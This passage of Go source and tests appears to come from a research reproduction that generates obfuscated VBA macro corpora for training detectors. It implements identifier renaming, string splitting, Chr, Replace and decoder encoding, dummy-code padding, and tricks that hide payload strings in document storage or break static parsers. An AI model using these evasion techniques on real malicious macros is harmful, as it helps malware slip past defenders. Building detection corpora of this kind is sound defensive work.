		t.Error("no Array() payloads after EncodeDecoder")
	}
	if !strings.Contains(out, "Private Function") {
		t.Error("decoder function not appended")
	}
	if !strings.Contains(out, "UBound") || !strings.Contains(out, "Chr(") {
		t.Error("decoder body incomplete")
	}
	// Output must still parse.
	m := vba.Parse(out)
	if len(m.Procedures) < 3 {
		t.Errorf("procedures after decoder injection = %d, want >= 3", len(m.Procedures))
	}
}

func TestLogicPadding(t *testing.T) {
	for _, target := range []int{1500, 3000, 15000} {
		out := Apply(sample, Options{Seed: 17, Logic: true, TargetSize: target})
		if len(out) < target {
			t.Errorf("target %d: output %d bytes, want >= target", target, len(out))
		}
		if len(out) > target+600 {
			t.Errorf("target %d: output %d bytes overshoots badly", target, len(out))
		}
		// Inserted dummy code must still parse.
		m := vba.Parse(out)
		if len(m.Procedures) < 3 {
			t.Errorf("target %d: procedures = %d", target, len(m.Procedures))
		}
	}
}

func TestStripComments(t *testing.T) {
	out := Apply(sample, Options{Seed: 19, StripComments: true})
	if strings.Contains(out, "download and run the payload") {
		t.Error("comment survived StripComments")
	}
	if feats := features.ExtractV(out); feats[1] != 0 {
		t.Errorf("V2 (comment chars) = %v after strip", feats[1])
	}
}

func TestHideStrings(t *testing.T) {
	out := Apply(sample, Options{Seed: 23, HideStrings: true})
	if !strings.Contains(out, "ActiveDocument.Variables(") && !strings.Contains(out, "UserForm1.Label1.Caption") {
		t.Errorf("no hidden-string rewrites:\n%s", out)
	}
}

func TestBrokenCode(t *testing.T) {
	out := Apply(sample, Options{Seed: 29, BrokenCode: true})
	if !strings.Contains(out, "Exit Sub") {
		t.Error("no Exit Sub inserted")
	}
	if !strings.Contains(out, ".mns(") {
		t.Error("no broken member access inserted")
	}
	// The parser must survive the broken code.
	m := vba.Parse(out)
	if len(m.Procedures) != 2 {
		t.Errorf("procedures = %d, want 2", len(m.Procedures))
	}
}

func TestFullPipelineShiftsFeatures(t *testing.T) {
	out := Apply(sample, Options{
		Seed: 31, Random: true, Split: true, Encode: true, Mode: EncodeChr,
		EncodeFraction: 1, Logic: true, TargetSize: 3000, StripComments: true,
	})
	vn := features.ExtractV(sample)
	vo := features.ExtractV(out)
	if vo[13] <= vn[13] {
		t.Errorf("V14 identifier length: %v <= %v", vo[13], vn[13])
	}
	if vo[7] <= vn[7] {
		t.Errorf("V8 text-function share: %v <= %v", vo[7], vn[7])
	}
	if vo[1] != 0 {
		t.Errorf("V2 comments: %v, want 0", vo[1])
	}
	if vo[0] <= vn[0] {
		t.Errorf("V1 code size: %v <= %v (O4 must grow code)", vo[0], vn[0])
	}
}

func TestToolsProduceBands(t *testing.T) {
	byTool := map[string][]int{}
	for _, tool := range StandardTools {
		for seed := int64(0); seed < 10; seed++ {
			out := tool.Obfuscate(sample, seed)
			byTool[tool.Name] = append(byTool[tool.Name], len(out))
		}
	}
	// Padding tools must cluster near their targets.
	for _, tc := range []struct {
		tool   string
		target int
	}{{"crunch-lite", 1500}, {"crunch-std", 3000}, {"crunch-max", 15000}} {
		for _, n := range byTool[tc.tool] {
			if n < tc.target/2 || n > tc.target*2 {
				t.Errorf("%s produced %d bytes, want near %d", tc.tool, n, tc.target)
			}
		}
	}
}

func TestRandomNameShape(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	for i := 0; i < 100; i++ {
		n := randomName(rng)
		if len(n) < 8 || len(n) > 15 {
			t.Fatalf("randomName length %d", len(n))
		}
		for _, c := range n {
			if c < 'a' || c > 'z' {
				t.Fatalf("randomName char %q", c)
			}
		}
	}
}

func TestApplyEmptySource(t *testing.T) {
	out := Apply("", Options{Seed: 1, Random: true, Split: true, Encode: true})
	if out != "" {
		t.Errorf("Apply(\"\") = %q", out)
	}
}

func TestObfuscatedStillParses(t *testing.T) {
	for _, tool := range StandardTools {
		out := tool.Obfuscate(sample, 99)
		m := vba.Parse(out)
		if len(m.Procedures) == 0 {
			t.Errorf("tool %s output has no parsable procedures", tool.Name)
		}
	}
}

func BenchmarkObfuscateFull(b *testing.B) {
	opts := Options{Seed: 1, Random: true, Split: true, Encode: true, Logic: true, TargetSize: 3000, StripComments: true}
	b.SetBytes(int64(len(sample)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		opts.Seed = int64(i)
		Apply(sample, opts)
	}
}
