package obfuscate

import (
	"fmt"
	"math/rand"
	"strings"

	"repro/internal/vba"
)

// HiddenString records one payload value the §VI.B.1 hidden-string trick
// moved out of the macro text and into document storage. The corpus
// packager embeds these values into the document (form captions, document
// variables) so the trick is reproduced end to end.
type HiddenString struct {
	// Kind is "variable" (ActiveDocument.Variables) or "caption"
	// (UserForm control caption).
	Kind string
	// Name is the variable name or control path.
	Name string
	// Value is the hidden payload string.
	Value string
}

// hideStrings implements the §VI.B.1 anti-analysis trick: long string
// literals are replaced with reads of hidden document storage
// (ActiveDocument.Variables(...) / UserForm captions), removing the
// payload from the macro text entirely. The removed values are appended
// to *hidden when non-nil.
func hideStrings(src string, rng *rand.Rand, hidden *[]HiddenString) string {
	toks := vba.Lex(src)
	starts := lineStarts(src)
	var edits []spliceEdit
	captionUsed := false
	for _, t := range toks {
		if t.Kind != vba.KindString {
			continue
		}
		val := t.StringValue()
		if len(val) < 12 {
			continue
		}
		if rng.Intn(2) == 0 {
			continue
		}
		off := tokenOffset(starts, t)
		if off < 0 {
			continue
		}
		var repl string
		if captionUsed || rng.Intn(2) == 0 {
			name := randomName(rng)
			repl = fmt.Sprintf("ActiveDocument.Variables(%s).Value()", vbaQuote(name))
			if hidden != nil {
				*hidden = append(*hidden, HiddenString{Kind: "variable", Name: name, Value: val})
			}
		} else {
			repl = "UserForm1.Label1.Caption"
			captionUsed = true
			if hidden != nil {
				*hidden = append(*hidden, HiddenString{Kind: "caption", Name: "UserForm1.Label1", Value: val})
			}
		}
		edits = append(edits, spliceEdit{Start: off, End: off + len(t.Text), Text: repl})
	}
	return applyEdits(src, edits)
}

// insertBrokenCode implements §VI.B.2: an `Exit Sub` followed by
// syntactically broken statements is inserted before the end of each Sub,
// so static parsers choke while run-time behavior is unchanged.
func insertBrokenCode(src string, ind string, rng *rand.Rand) string {
	m := vba.Parse(src)
	lines := strings.Split(src, "\n")
	inserts := make(map[int][]string)
	for _, p := range m.Procedures {
		endIdx := p.EndLine - 1
		if endIdx <= 0 || endIdx >= len(lines) {
			continue
		}
		obj := randomName(rng)
		inserts[endIdx] = []string{
			ind + "Exit Sub",
			ind + "Rows.Select",
			fmt.Sprintf("%s%s.mns(\"A:A\").Delete", ind, obj[:4]),
			fmt.Sprintf("%s%s.mns(\"C:C\").ColumnWidth = %d", ind, obj[:4], rng.Intn(30)+5),
			ind + "Selection.RowHeight = 15",
		}
	}
	if len(inserts) == 0 {
		return src
	}
	var out []string
	for i, l := range lines {
		if ins, ok := inserts[i]; ok {
			out = append(out, ins...)
		}
		out = append(out, l)
	}
	return strings.Join(out, "\n")
}
