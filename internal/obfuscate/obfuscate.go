// Package obfuscate implements the four VBA obfuscation technique families
// the paper catalogues in Table I — O1 random (identifier renaming), O2
// split (string partitioning), O3 encoding (Replace tricks, character
// codes, custom decoders) and O4 logic (dummy code insertion and
// reordering) — plus the anti-analysis tricks of §VI.B.
//
// The engine is deterministic for a given seed, which the corpus generator
// relies on, and composable: Apply runs any subset of the techniques, and
// the Tool presets emulate off-the-shelf obfuscators with characteristic
// output sizes (the horizontal bands of the paper's Figure 5(b)).
package obfuscate

import (
	"math/rand"
	"strings"

	"repro/internal/vba"
)

// EncodeMode selects the O3 encoding strategy.
type EncodeMode int

// O3 sub-techniques from §III.B.3.
const (
	// EncodeChr rewrites string literals as Chr(n) & Chr(n) & ... chains
	// (character-encoding obfuscation).
	EncodeChr EncodeMode = iota + 1
	// EncodeReplace hides keywords with Replace("savteRKtofilteRK",
	// "teRK", "e")-style built-in calls.
	EncodeReplace
	// EncodeDecoder stores strings as numeric arrays decoded by an
	// injected user-defined function (the paper's Figure 4(b)).
	EncodeDecoder
)

// Options selects which techniques Apply runs and with what intensity.
type Options struct {
	// Seed drives all pseudo-random choices; equal seeds give equal output.
	Seed int64

	// Random enables O1 identifier randomization.
	Random bool
	// RenameFraction is the share of identifiers O1 renames (default 1).
	// Hand-obfuscated code often renames only the incriminating names.
	RenameFraction float64
	// Split enables O2 string splitting; strings of at least SplitMinLen
	// characters are partitioned.
	Split bool
	// SplitMinLen is the minimum literal length eligible for O2
	// (default 6).
	SplitMinLen int
	// SplitFraction is the share of eligible strings O2 splits
	// (default 1). Minimal hand obfuscation splits just the one
	// incriminating string.
	SplitFraction float64
	// Encode enables O3 with the given Mode (default EncodeChr).
	Encode bool
	// Mode is the O3 strategy.
	Mode EncodeMode
	// EncodeFraction is the share of eligible strings O3 transforms
	// (default 0.8).
	EncodeFraction float64
	// Logic enables O4 dummy-code insertion.
	Logic bool
	// TargetSize, when > 0 and Logic is set, pads the output with dummy
	// code until it is approximately this many bytes — the behavior of
	// real obfuscation tools that produces the code-length clusters of
	// Figure 5(b).
	TargetSize int
	// StripComments removes the original comments.
	StripComments bool
	// JunkComments inserts random natural-looking comment lines, a
	// counter-heuristic some obfuscators use against comment-ratio and
	// entropy features.
	JunkComments bool

	// Indent selects the output indentation convention. IndentAuto (the
	// zero value) picks one at random per seed — real obfuscators impose
	// their own formatting, frequently flat-left.
	Indent IndentMode

	// HideStrings enables the §VI.B.1 anti-analysis trick: moving string
	// payloads into document-variable lookups.
	HideStrings bool
	// BrokenCode enables §VI.B.2: unreachable syntactically broken lines
	// after an early Exit Sub.
	BrokenCode bool
}

func (o Options) withDefaults() Options {
	if o.SplitMinLen == 0 {
		o.SplitMinLen = 6
	}
	if o.RenameFraction == 0 {
		o.RenameFraction = 1
	}
	if o.SplitFraction == 0 {
		o.SplitFraction = 1
	}
	if o.Mode == 0 {
		o.Mode = EncodeChr
	}
	if o.EncodeFraction == 0 {
		o.EncodeFraction = 0.8
	}
	return o
}

// IndentMode is an output indentation convention.
type IndentMode int

// Indentation conventions.
const (
	// IndentAuto picks one of the other modes pseudo-randomly.
	IndentAuto IndentMode = iota
	// IndentKeep leaves the input formatting untouched.
	IndentKeep
	// IndentFlat strips all leading whitespace (common generated-code
	// style).
	IndentFlat
	// IndentTwo re-indents every indented line with two spaces.
	IndentTwo
	// IndentFour re-indents every indented line with four spaces.
	IndentFour
)

// indentString is the leading whitespace a mode writes ("" for flat/keep).
func (m IndentMode) indentString() string {
	switch m {
	case IndentTwo:
		return "  "
	case IndentFour:
		return "    "
	default:
		return ""
	}
}

// Apply obfuscates src according to opts. The result is syntactically valid
// VBA whose run-time behavior is preserved (modulo the intentionally
// unreachable broken code when BrokenCode is set).
func Apply(src string, opts Options) string {
	out, _ := ApplyWithReport(src, opts)
	return out
}

// Report describes side effects of an Apply run that the document
// packager must honor for the output to stay semantically complete.
type Report struct {
	// Hidden lists the payload strings the HideStrings option moved into
	// document storage; they must be embedded into the carrying document.
	Hidden []HiddenString
}

// ApplyWithReport is Apply plus the side-effect report.
func ApplyWithReport(src string, opts Options) (string, Report) {
	opts = opts.withDefaults()
	rng := rand.New(rand.NewSource(opts.Seed))
	indent := opts.Indent
	if indent == IndentAuto {
		indent = []IndentMode{IndentKeep, IndentFlat, IndentTwo, IndentFour}[rng.Intn(4)]
	}
	out := Reindent(src, indent)
	ind := indent.indentString()
	if indent == IndentKeep {
		ind = "    "
	}
	if opts.StripComments {
		out = StripComments(out)
	}
	if opts.Random {
		out = randomizeIdentifiers(out, opts.RenameFraction, rng)
	}
	// O3 before O2 so split fragments are not re-encoded; both operate on
	// string literals.
	if opts.Encode {
		out = encodeStrings(out, opts.Mode, opts.EncodeFraction, rng)
	}
	if opts.Split {
		out = splitStrings(out, opts.SplitMinLen, opts.SplitFraction, rng)
	}
	var report Report
	if opts.HideStrings {
		out = hideStrings(out, rng, &report.Hidden)
	}
	if opts.BrokenCode {
		out = insertBrokenCode(out, ind, rng)
	}
	if opts.Logic {
		target := opts.TargetSize
		// Pad to the next multiple of the block size when the input is
		// already larger — tool output sizes stay on the characteristic
		// bands (1×, 2×, ... the block) whatever the input length.
		if target > 0 {
			for target < len(out)+250 {
				target += opts.TargetSize
			}
		}
		out = insertDummyCode(out, target, ind, rng)
	}
	if opts.JunkComments {
		out = insertJunkComments(out, rng)
	}
	return out, report
}

// Reindent rewrites the leading whitespace of every line per the mode. It
// is exported for the corpus generator, which applies author-diversity
// formatting noise to benign and malicious macros alike.
func Reindent(src string, mode IndentMode) string {
	if mode == IndentKeep {
		return src
	}
	ind := mode.indentString()
	lines := strings.Split(src, "\n")
	for i, l := range lines {
		trimmed := strings.TrimLeft(l, " \t")
		if trimmed == l || trimmed == "" {
			if trimmed == "" {
				lines[i] = ""
			}
			continue
		}
		lines[i] = ind + trimmed
	}
	return strings.Join(lines, "\n")
}

// junkWords feed the fake comments of the JunkComments option.
var junkWords = []string{
	"update", "the", "report", "value", "data", "check", "total", "load",
	"file", "open", "save", "next", "row", "cell", "sheet", "format",
	"result", "input", "output", "current", "handle", "process", "first",
}

// insertJunkComments sprinkles plausible comment lines through the code.
func insertJunkComments(src string, rng *rand.Rand) string {
	lines := strings.Split(src, "\n")
	out := make([]string, 0, len(lines)+len(lines)/6)
	for _, l := range lines {
		if rng.Intn(6) == 0 {
			n := 3 + rng.Intn(5)
			words := make([]string, n)
			for i := range words {
				words[i] = junkWords[rng.Intn(len(junkWords))]
			}
			out = append(out, "    ' "+strings.Join(words, " "))
		}
		out = append(out, l)
	}
	return strings.Join(out, "\n")
}

// spliceEdit is a replacement of source bytes [Start, End) with Text.
type spliceEdit struct {
	Start, End int
	Text       string
}

// applyEdits replays non-overlapping edits (sorted by Start) onto src.
func applyEdits(src string, edits []spliceEdit) string {
	if len(edits) == 0 {
		return src
	}
	var sb strings.Builder
	sb.Grow(len(src) + len(edits)*16)
	prev := 0
	for _, e := range edits {
		if e.Start < prev {
			continue // overlapping edit: drop to stay safe
		}
		sb.WriteString(src[prev:e.Start])
		sb.WriteString(e.Text)
		prev = e.End
	}
	sb.WriteString(src[prev:])
	return sb.String()
}

// lineStarts returns the byte offset of each line start, for mapping token
// line/col positions to byte offsets.
func lineStarts(src string) []int {
	starts := []int{0}
	for i := 0; i < len(src); i++ {
		if src[i] == '\n' {
			starts = append(starts, i+1)
		}
	}
	return starts
}

// tokenOffset converts a token position to a byte offset into src.
func tokenOffset(starts []int, t vba.Token) int {
	if t.Line-1 >= len(starts) {
		return -1
	}
	return starts[t.Line-1] + t.Col - 1
}

// StripComments deletes comment tokens (and a preceding space run) from
// the source, leaving line structure intact.
func StripComments(src string) string {
	toks := vba.Lex(src)
	starts := lineStarts(src)
	var edits []spliceEdit
	for _, t := range toks {
		if t.Kind != vba.KindComment {
			continue
		}
		off := tokenOffset(starts, t)
		if off < 0 {
			continue
		}
		start := off
		for start > 0 && (src[start-1] == ' ' || src[start-1] == '\t') {
			start--
		}
		edits = append(edits, spliceEdit{Start: start, End: off + len(t.Text)})
	}
	out := applyEdits(src, edits)
	// Drop lines that became empty.
	lines := strings.Split(out, "\n")
	kept := lines[:0]
	for _, l := range lines {
		if strings.TrimSpace(l) != "" || len(kept) == 0 {
			kept = append(kept, l)
		}
	}
	return strings.Join(kept, "\n")
}
