package obfuscate

import (
	"math/rand"
	"strings"

	"repro/internal/vba"
)

// consonant-heavy alphabet: names drawn from it fail natural-language
// readability checks, matching the ueiwjfdjkfdsv style the paper shows in
// Figure 2.
const (
	consonants = "bcdfghjklmnpqrstvwxz"
	vowels     = "aeiou"
)

// randomName produces a random identifier of 8..15 characters with rare
// vowels, such as "yruuehdjdnnz".
func randomName(rng *rand.Rand) string {
	n := 8 + rng.Intn(8)
	var sb strings.Builder
	sb.Grow(n)
	for i := 0; i < n; i++ {
		if rng.Intn(5) == 0 {
			sb.WriteByte(vowels[rng.Intn(len(vowels))])
		} else {
			sb.WriteByte(consonants[rng.Intn(len(consonants))])
		}
	}
	return sb.String()
}

// eventHandlers are entry-point procedure names that must keep their names
// for the macro to keep auto-executing; real obfuscators leave them alone.
var eventHandlers = map[string]bool{
	"autoopen":       true,
	"autoclose":      true,
	"autoexec":       true,
	"document_open":  true,
	"document_close": true,
	"workbook_open":  true,
	"workbook_close": true,
	"auto_open":      true,
	"auto_close":     true,
}

// randomizeIdentifiers implements O1: declared identifiers (procedures,
// parameters, variables, constants) are consistently renamed to random
// strings, except auto-exec event handlers. fraction < 1 renames only that
// share of the identifiers, as hand-obfuscated code does.
func randomizeIdentifiers(src string, fraction float64, rng *rand.Rand) string {
	return RenameIdentifiers(src, fraction, rng, randomName)
}

// RenameIdentifiers consistently replaces the given share of declared
// identifiers with names drawn from gen, skipping auto-exec event
// handlers. It is the shared machinery of O1 random obfuscation and of
// corpus generators that re-style a macro's identifier naming convention.
func RenameIdentifiers(src string, fraction float64, rng *rand.Rand, gen func(*rand.Rand) string) string {
	m := vba.Parse(src)
	rename := make(map[string]string)
	for _, id := range m.Identifiers() {
		key := strings.ToLower(id)
		if eventHandlers[key] {
			continue
		}
		if fraction < 1 && rng.Float64() > fraction {
			continue
		}
		if _, ok := rename[key]; !ok {
			rename[key] = gen(rng)
		}
	}
	if len(rename) == 0 {
		return src
	}
	starts := lineStarts(src)
	var edits []spliceEdit
	for _, t := range m.Tokens {
		if t.Kind != vba.KindIdent {
			continue
		}
		newName, ok := rename[strings.ToLower(strings.TrimSuffix(t.Text, "$"))]
		if !ok {
			continue
		}
		off := tokenOffset(starts, t)
		if off < 0 {
			continue
		}
		edits = append(edits, spliceEdit{Start: off, End: off + len(t.Text), Text: newName})
	}
	return applyEdits(src, edits)
}
