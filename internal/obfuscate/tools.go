package obfuscate

import "math/rand"

// Tool is a preset emulating one off-the-shelf obfuscator configuration.
// Real-world obfuscated macros cluster into a few characteristic code
// lengths because each tool pads output toward a fixed size (the
// horizontal bands of the paper's Figure 5(b)); SizeJitter controls the
// spread of each band.
type Tool struct {
	// Name labels the preset in corpus metadata.
	Name string
	// Opts is the option template; Seed is overridden per invocation and
	// TargetSize is jittered by SizeJitter.
	Opts Options
	// SizeJitter is the relative 1-sigma spread applied to TargetSize
	// (e.g. 0.05 = ±5%).
	SizeJitter float64
}

// Obfuscate runs the tool on src with the given seed.
func (t Tool) Obfuscate(src string, seed int64) string {
	out, _ := t.ObfuscateWithReport(src, seed)
	return out
}

// ObfuscateWithReport is Obfuscate plus the Apply side-effect report.
func (t Tool) ObfuscateWithReport(src string, seed int64) (string, Report) {
	opts := t.Opts
	opts.Seed = seed
	if opts.TargetSize > 0 && t.SizeJitter > 0 {
		rng := rand.New(rand.NewSource(seed ^ 0x5EED))
		f := 1 + t.SizeJitter*rng.NormFloat64()
		if f < 0.5 {
			f = 0.5
		}
		opts.TargetSize = int(float64(opts.TargetSize) * f)
	}
	return ApplyWithReport(src, opts)
}

// StandardTools are the presets the corpus generator draws from. The
// TargetSize values 1500 / 3000 / 15000 reproduce the bands the paper
// reports in Figure 5(b).
var StandardTools = []Tool{
	{
		Name: "crunch-lite",
		Opts: Options{
			Random: true, Split: true, Encode: true, Mode: EncodeChr,
			Logic: true, TargetSize: 1500, StripComments: true,
		},
		SizeJitter: 0.04,
	},
	{
		Name: "crunch-std",
		Opts: Options{
			Random: true, Split: true, Encode: true, Mode: EncodeReplace,
			Logic: true, TargetSize: 3000, StripComments: true,
		},
		SizeJitter: 0.04,
	},
	{
		Name: "crunch-max",
		Opts: Options{
			Random: true, Split: true, Encode: true, Mode: EncodeDecoder,
			Logic: true, TargetSize: 15000, StripComments: true,
			BrokenCode: true,
		},
		SizeJitter: 0.03,
	},
	{
		Name: "handmade",
		Opts: Options{
			Random: true, RenameFraction: 0.5, Split: true, Encode: true,
			Mode: EncodeChr, EncodeFraction: 0.5, StripComments: true,
		},
	},
	{
		Name: "stealth",
		Opts: Options{
			Random: true, Encode: true, Mode: EncodeDecoder,
			StripComments: true, HideStrings: true, Logic: true,
			TargetSize: 3000,
		},
		SizeJitter: 0.05,
	},
}

// LightTools apply a single technique each — the hand-obfuscated macros
// that make detection non-trivial: an O1-only rename leaves every string
// and call signature untouched, an O3-only pass leaves identifiers
// readable. The paper's imperfect recall (about 0.9 for the best V-feature
// classifier) comes from exactly this population.
var LightTools = []Tool{
	{
		Name: "rename-only",
		Opts: Options{Random: true, StripComments: true},
	},
	{
		// O2 without O1: the frequent real-world case of splitting the
		// incriminating strings while keeping readable identifiers.
		Name: "split-only",
		Opts: Options{Split: true, SplitMinLen: 8},
	},
	{
		Name: "encode-light",
		Opts: Options{
			Encode: true, Mode: EncodeReplace, EncodeFraction: 0.4,
			StripComments: true,
		},
	},
}
