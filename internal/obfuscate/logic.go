package obfuscate

import (
	"fmt"
	"math/rand"
	"strings"

	"repro/internal/vba"
)

// insertDummyCode implements O4: unused declarations, no-op loops and dead
// branches are inserted into procedure bodies, and dummy procedures are
// appended. When targetSize > 0 the output is padded with further dummy
// procedures until it is approximately that many bytes, emulating the
// fixed-size output of real obfuscation tools (Figure 5(b)).
func insertDummyCode(src string, targetSize int, ind string, rng *rand.Rand) string {
	m := vba.Parse(src)
	lines := strings.Split(src, "\n")

	// Insert a dummy statement block after each procedure header.
	inserts := make(map[int][]string) // line index -> inserted lines
	for _, p := range m.Procedures {
		if p.StartLine-1 < 0 || p.StartLine-1 >= len(lines) {
			continue
		}
		inserts[p.StartLine-1] = dummyStatements(rng, ind)
	}
	var out []string
	for i, l := range lines {
		out = append(out, l)
		out = append(out, inserts[i]...)
	}
	result := strings.Join(out, "\n")

	// Append dummy procedures: at least one, then as many as needed to
	// approach targetSize, sizing each to the remaining budget so the
	// output lands close to the target.
	result += "\n" + dummyProcedure(rng, 0, ind)
	if targetSize > 0 {
		for len(result) < targetSize {
			result += "\n" + dummyProcedure(rng, targetSize-len(result), ind)
		}
	}
	return result
}

// dummyStatements yields a block of no-op statements for a procedure body.
func dummyStatements(rng *rand.Rand, ind string) []string {
	v1, v2 := randomName(rng), randomName(rng)
	blocks := [][]string{
		{
			fmt.Sprintf("    Dim %s As Integer", v1),
			fmt.Sprintf("    %s = %d", v1, rng.Intn(90)+2),
			fmt.Sprintf("    Do While %s < %d", v1, rng.Intn(50)+100),
			fmt.Sprintf("        DoEvents: %s = %s + 1", v1, v1),
			"    Loop",
		},
		{
			fmt.Sprintf("    Dim %s As Long", v1),
			fmt.Sprintf("    Dim %s As String", v2),
			fmt.Sprintf("    %s = %d * %d", v1, rng.Intn(900)+10, rng.Intn(90)+2),
			fmt.Sprintf("    If %s < 0 Then", v1),
			fmt.Sprintf("        %s = \"%s\"", v2, randomName(rng)),
			"    End If",
		},
		{
			fmt.Sprintf("    Dim %s As Double", v1),
			fmt.Sprintf("    %s = Sqr(%d) + Rnd()", v1, rng.Intn(9000)+100),
			fmt.Sprintf("    %s = %s - Int(%s)", v1, v1, v1),
		},
		{
			// Financial-function junk: the paper notes O3 variants use
			// "infrequent financial functions which are only used for
			// accounting" purely to diversify hashes (§III.B.3) — the V11
			// channel.
			fmt.Sprintf("    Dim %s As Double", v1),
			fmt.Sprintf("    %s = DDB(%d, %d, %d, %d)", v1, 1000+rng.Intn(9000), rng.Intn(500), 5+rng.Intn(15), 1+rng.Intn(4)),
			fmt.Sprintf("    %s = %s + FV(0.0%d, %d, -%d)", v1, v1, 1+rng.Intn(9), 6+rng.Intn(30), 50+rng.Intn(400)),
			fmt.Sprintf("    %s = %s * SYD(%d, %d, %d, %d)", v1, v1, 800+rng.Intn(5000), rng.Intn(300), 4+rng.Intn(12), 1+rng.Intn(3)),
		},
	}
	block := blocks[rng.Intn(len(blocks))]
	for i, l := range block {
		block[i] = ind + strings.TrimLeft(l, " ")
		if strings.HasPrefix(l, "        ") { // nested level
			block[i] = ind + ind + strings.TrimLeft(l, " ")
		}
	}
	return block
}

// dummyProcedure yields an entire unused procedure. budget > 0 caps the
// approximate size in bytes so padding converges on its target; budget <= 0
// picks a random size (roughly 200–900 bytes).
func dummyProcedure(rng *rand.Rand, budget int, ind string) string {
	name := randomName(rng)
	var sb strings.Builder
	fmt.Fprintf(&sb, "Private Sub %s()\n", name)
	n := 1 + rng.Intn(5)
	if budget > 0 {
		// A statement block averages ~140 bytes.
		if cap := budget / 140; cap < n {
			n = cap
		}
		if n < 1 {
			n = 1
		}
	}
	for i := 0; i < n; i++ {
		for _, l := range dummyStatements(rng, ind) {
			sb.WriteString(l)
			sb.WriteByte('\n')
		}
	}
	sb.WriteString("End Sub\n")
	return sb.String()
}
