package obfuscate

import (
	"math/rand"
	"strings"

	"repro/internal/vba"
)

// splitStrings implements O2: a fraction of the string literals of at
// least minLen characters is partitioned into 2–4 fragments rejoined with
// the concatenation operators '&' and '+', e.g. "String" → "St" & "r" + "ing".
func splitStrings(src string, minLen int, fraction float64, rng *rand.Rand) string {
	toks := vba.Lex(src)
	starts := lineStarts(src)
	var edits []spliceEdit
	for _, t := range toks {
		if t.Kind != vba.KindString {
			continue
		}
		val := t.StringValue()
		if len(val) < minLen || strings.Contains(val, `"`) {
			continue
		}
		if fraction < 1 && rng.Float64() > fraction {
			continue
		}
		off := tokenOffset(starts, t)
		if off < 0 {
			continue
		}
		edits = append(edits, spliceEdit{
			Start: off,
			End:   off + len(t.Text),
			Text:  splitExpression(val, rng),
		})
	}
	return applyEdits(src, edits)
}

// splitExpression renders val as a concatenation of 2-4 quoted fragments.
func splitExpression(val string, rng *rand.Rand) string {
	pieces := 2 + rng.Intn(3)
	if pieces > len(val) {
		pieces = len(val)
	}
	// Choose distinct ascending cut points.
	cuts := map[int]bool{}
	for len(cuts) < pieces-1 {
		cuts[1+rng.Intn(len(val)-1)] = true
	}
	var sb strings.Builder
	prev := 0
	first := true
	emit := func(part string) {
		if !first {
			if rng.Intn(2) == 0 {
				sb.WriteString(" & ")
			} else {
				sb.WriteString(" + ")
			}
		}
		first = false
		sb.WriteByte('"')
		sb.WriteString(part)
		sb.WriteByte('"')
	}
	for i := 1; i < len(val); i++ {
		if cuts[i] {
			emit(val[prev:i])
			prev = i
		}
	}
	emit(val[prev:])
	return sb.String()
}
