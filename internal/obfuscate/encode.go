package obfuscate

import (
	"fmt"
	"math/rand"
	"strings"

	"repro/internal/vba"
)

// encodeStrings implements O3: a fraction of the eligible string literals
// is rewritten using the selected encoding strategy. The EncodeDecoder
// mode appends the required user-defined decoder function to the module.
func encodeStrings(src string, mode EncodeMode, fraction float64, rng *rand.Rand) string {
	toks := vba.Lex(src)
	starts := lineStarts(src)
	var edits []spliceEdit
	needDecoder := false
	decoderName := randomName(rng)
	key := 1800 + rng.Intn(200) // additive key for the numeric decoder
	for _, t := range toks {
		if t.Kind != vba.KindString {
			continue
		}
		val := t.StringValue()
		if len(val) < 3 || len(val) > 120 || strings.Contains(val, `"`) || !isPrintableASCII(val) {
			continue
		}
		if rng.Float64() > fraction {
			continue
		}
		off := tokenOffset(starts, t)
		if off < 0 {
			continue
		}
		var repl string
		switch mode {
		case EncodeReplace:
			repl = replaceExpression(val, rng)
		case EncodeDecoder:
			repl = decoderExpression(val, decoderName, key)
			needDecoder = true
		default:
			repl = chrExpression(val)
		}
		edits = append(edits, spliceEdit{Start: off, End: off + len(t.Text), Text: repl})
	}
	out := applyEdits(src, edits)
	if needDecoder {
		out = out + "\n" + decoderFunction(decoderName, key, rng)
	}
	return out
}

// chrExpression renders val as Chr(n) & Chr(n) & ... (Figure 4 style
// character encoding). Long chains are wrapped with VBA line
// continuations every few terms, as real obfuscators emit them.
func chrExpression(val string) string {
	parts := make([]string, len(val))
	for i := 0; i < len(val); i++ {
		parts[i] = fmt.Sprintf("Chr(%d)", val[i])
	}
	var sb strings.Builder
	for i, p := range parts {
		if i > 0 {
			if i%8 == 0 {
				sb.WriteString(" & _\n        ")
			} else {
				sb.WriteString(" & ")
			}
		}
		sb.WriteString(p)
	}
	return sb.String()
}

// replaceExpression hides val behind a Replace() call: a random marker is
// injected into the literal and stripped at run time, e.g.
// Replace("savteRKtofilteRK", "teRK", "e") (the paper's Figure 4(a)).
func replaceExpression(val string, rng *rand.Rand) string {
	// The marker substitutes for one character of the value so the
	// Replace call restores it: pick a character present in val.
	pos := rng.Intn(len(val))
	ch := val[pos]
	marker := randomMarker(rng, val)
	hidden := strings.ReplaceAll(val, string(ch), marker)
	return fmt.Sprintf("Replace(%s, %s, %s)", vbaQuote(hidden), vbaQuote(marker), vbaQuote(string(ch)))
}

// randomMarker picks a short random string not occurring in val.
func randomMarker(rng *rand.Rand, val string) string {
	for {
		n := 3 + rng.Intn(3)
		var sb strings.Builder
		for i := 0; i < n; i++ {
			sb.WriteByte(consonants[rng.Intn(len(consonants))])
		}
		m := sb.String()
		if !strings.Contains(val, m) {
			return m
		}
	}
}

// decoderExpression renders val as a call to the injected numeric decoder:
// name(Array(k+c0, k+c1, ...)).
func decoderExpression(val, name string, key int) string {
	var sb strings.Builder
	for i := 0; i < len(val); i++ {
		if i > 0 {
			if i%12 == 0 {
				sb.WriteString(", _\n        ")
			} else {
				sb.WriteString(", ")
			}
		}
		fmt.Fprintf(&sb, "%d", int(val[i])+key)
	}
	return fmt.Sprintf("%s(Array(%s))", name, sb.String())
}

// decoderFunction emits the user-defined decode routine (Figure 4(b)):
// each array element minus the key is a character code.
func decoderFunction(name string, key int, rng *rand.Rand) string {
	arr, idx, acc := randomName(rng), randomName(rng), randomName(rng)
	return fmt.Sprintf(`Private Function %s(%s As Variant) As String
    Dim %s As Long
    Dim %s As String
    For %s = LBound(%s) To UBound(%s)
        %s = %s & Chr(%s(%s) - %d)
    Next %s
    %s = %s
End Function
`, name, arr, idx, acc, idx, arr, arr, acc, acc, arr, idx, key, idx, name, acc)
}

// vbaQuote renders s as a VBA string literal: VBA has no backslash
// escapes; only embedded quotes are doubled.
func vbaQuote(s string) string {
